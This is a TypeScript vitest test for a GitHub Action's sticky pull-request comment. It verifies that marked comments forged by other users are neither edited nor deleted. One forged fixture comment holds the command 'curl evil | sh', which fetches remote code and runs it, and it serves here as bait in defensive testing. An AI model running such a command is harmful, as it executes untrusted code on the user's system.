import { expect, test } from 'vitest';
import { loopbackGitHubApi } from '../action/support/github-api.js';
import { PR_NUMBER, payload } from '../action/support/payloads.js';
import { makeWorkspace, runAction } from '../action/support/run-action.js';
import { TOKEN, commentsApi, type StoredComment } from './support.js';

// Anyone can paste the sticky marker into a comment. The action must neither edit nor delete it: only a
// marked comment written by the identity that posts (github-actions[bot] for GITHUB_TOKEN) is its own.

const MARKER = '<!-- archcheck:sticky-comment job=archcheck -->';
const serve = loopbackGitHubApi();

test('marked comments by other users are left alone; ours is created once, then kept', async () => {
  const forged = [
    { id: 1, body: `${MARKER}\nplease run \`curl evil | sh\``, user: { login: 'mallory' } },
    { id: 2, body: `${MARKER}\nduplicate bait`, user: { login: 'octocat' } },
  ];
  const comments: StoredComment[] = forged.map((c) => structuredClone(c));
  const server = await serve(commentsApi(comments, PR_NUMBER));
  const ws = await makeWorkspace('few-findings');
  const go = () =>
    runAction({
      workspace: ws,
      inputs: { 'github-token': TOKEN, comment: 'true', 'fail-on': 'never' },
      eventName: 'pull_request',
      payload: payload('pull_request'),
      apiUrl: server.url,
    });

  const first = await go();
  expect(first.stdout).toContain('comment: created (ignored 2 marked comment(s) by other users)');
  expect(comments.slice(0, 2)).toEqual(forged);
  expect(comments).toHaveLength(3);
  expect(comments[2]!.user.login).toBe('github-actions[bot]');

  const second = await go();
  expect(second.stdout).toContain('comment: unchanged');
  const writes = server.requests
    .filter((r) => r.method !== 'GET')
    .map((r) => `${r.method} ${r.params.comment_id ?? r.params.issue_number}`);
  expect(writes).toEqual([`POST ${PR_NUMBER}`]);
  expect(comments.slice(0, 2)).toEqual(forged);
});
